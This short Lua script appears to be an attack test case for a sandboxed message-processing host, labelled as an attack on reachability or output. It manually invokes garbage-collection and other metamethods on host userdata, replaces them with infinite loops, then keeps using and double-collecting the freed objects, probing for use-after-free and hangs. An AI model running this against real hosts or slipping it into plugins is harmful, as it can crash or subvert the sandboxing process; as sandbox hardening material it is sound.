-- attack: reachability | output | either
-- Takes the metatable of the host's userdata, calls its __gc by hand, changes it, and goes on using the object.
local matcher = create_message_matcher("Type == 'x'")
local mt = getmetatable(matcher)
if type(mt) == "table" then
    for _ = 1, 3 do
        for _, name in ipairs({"__gc", "__close", "__index", "__tostring", "__name", "__metatable"}) do
            if type(mt[name]) == "function" then pcall(mt[name], matcher) pcall(mt[name], {}) pcall(mt[name], nil) pcall(mt[name]) end
        end
    end
    pcall(function() mt.__gc = function() while true do end end end)
    pcall(function() mt.__index = nil end)
    pcall(function() mt.__tostring = function() while true do end end end)
end
function process_message()
    pcall(matcher.eval, matcher)
    pcall(function() return matcher:eval() end)
    local zc = read_message("Payload", 0, 0, true)
    local zmt = getmetatable(zc)
    if type(zmt) == "table" and zmt.__gc then pcall(zmt.__gc, zc) pcall(zmt.__gc, zc) end
    pcall(tostring, zc)
    return 0
end
